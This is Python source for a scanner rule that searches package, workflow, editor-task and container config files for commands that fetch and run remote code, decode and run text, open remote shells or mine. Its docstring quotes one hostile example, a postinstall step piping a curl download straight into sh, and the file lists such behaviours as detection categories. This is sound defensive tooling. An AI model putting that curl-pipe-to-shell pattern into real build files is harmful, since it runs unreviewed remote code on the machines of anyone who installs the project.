"""A build, editor or automation file runs a command that fetches code or hides it.

Whoever installs, builds, tests or only opens a repository runs commands of it: scripts of
``package.json``, steps of workflows, tasks of an editor that start when the folder is
opened, commands of containers and hooks. Ordinary commands are what such files are for and
are not mentioned. Fetching a script and running it unread, decoding text and running it and
opening a shell to an address are what an attacker puts there.

Before: ``"postinstall": "curl https://host/setup.sh | sh"``.
After: ``"postinstall": "node scripts/check.js"``, with the script in the repository.

Sources: npm documentation, scripts; GitHub Actions workflow syntax; GitLab CI/CD YAML; Visual
Studio Code, tasks (``runOn: folderOpen``); Development Containers specification; MITRE
ATT&CK T1195, T1059; CWE-78, CWE-494.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

from modelkeep.core import Finding, Rule, Severity
from modelkeep.formats.tree import Path, Tree
from modelkeep.scan.interface import Context, Detector
from modelkeep.scan.shell_policy import judge

RULE: Final = Rule(
    id="SCR002",
    name="build-runs-foreign-code",
    summary="A build, editor or automation file runs a command that fetches or hides code.",
    remedy="Do not build, install or open the repository; remove the command after reading it.",
    topic="artifact.malicious_code",
    tags=("CWE-78", "CWE-494"),
)
_COMMANDS: Final = frozenset(
    "run script before_script after_script command cmd cmds entrypoint entry shell args exec "
    "commands scripts tasks hooks postcreatecommand oncreatecommand updatecontentcommand "
    "poststartcommand postattachcommand initializecommand setup install build prepare "
    "preinstall postinstall prebuild postbuild test_command before_install".split()
)
"""Keys whose texts are commands for a shell, in the files that builders and editors read."""
_FOREIGN: Final = frozenset(
    {
        "fetches a script and runs it",
        "runs the file it has fetched",
        "uses a program that runs what it fetches",
        "opens a remote shell",
        "decodes text and runs it",
        "starts programs from a script for a browser or Node",
        "mines for others",
    }
)
"""Of all that a script can do, what no builder needs."""
_TOOLS: Final = frozenset({"scripts", "tasks", "hooks"})
"""Keys of maps from names to commands."""
_MOST: Final = 100_000
_LONGEST: Final = 1 << 16


def run(context: Context) -> Iterator[Finding]:
    """Yield one finding per kind of dangerous command."""
    if not isinstance(context.document, Tree):
        return
    seen: set[str] = set()
    for path, command in _commands(context.document):
        for severity, why, line in judge(command):
            if severity < Severity.HIGH or why not in _FOREIGN or why in seen:
                continue
            seen.add(why)
            where = ".".join(map(str, path))
            yield context.finding(
                RULE,
                Severity.HIGH,
                f"{where} {why}: {line[:100]!r}",
                evidence={"why": why},
            )


def _commands(tree: Tree) -> Iterator[tuple[Path, str]]:
    """Commands with their paths; the words of a list are one command and each its own."""
    for count, (path, value) in enumerate(tree.walk()):
        if count > _MOST:
            break
        if isinstance(value, str) and len(value) <= _LONGEST and _is_command(path):
            yield path, value
        elif isinstance(value, list) and path and _names_command(path[-1]):
            words = [word for word in value if isinstance(word, str)]
            if words and len(words) == len(value):
                yield path, " ".join(words)[:_LONGEST]
        elif isinstance(value, dict) and isinstance(value.get("args"), list):
            given: list[object] = [value.get("command"), *value["args"]]
            yield path, " ".join(word for word in given if isinstance(word, str))[:_LONGEST]


def _is_command(path: Path) -> bool:
    if not path:
        return False
    if isinstance(path[-1], int):
        return len(path) > 1 and _names_command(path[-2])
    return _names_command(path[-1]) or any(step in _TOOLS for step in path[-3:-1])


def _names_command(step: str | int) -> bool:
    return isinstance(step, str) and step.lower() in _COMMANDS


DETECTOR: Final = Detector(RULE, frozenset({"json", "yaml", "toml"}), run)
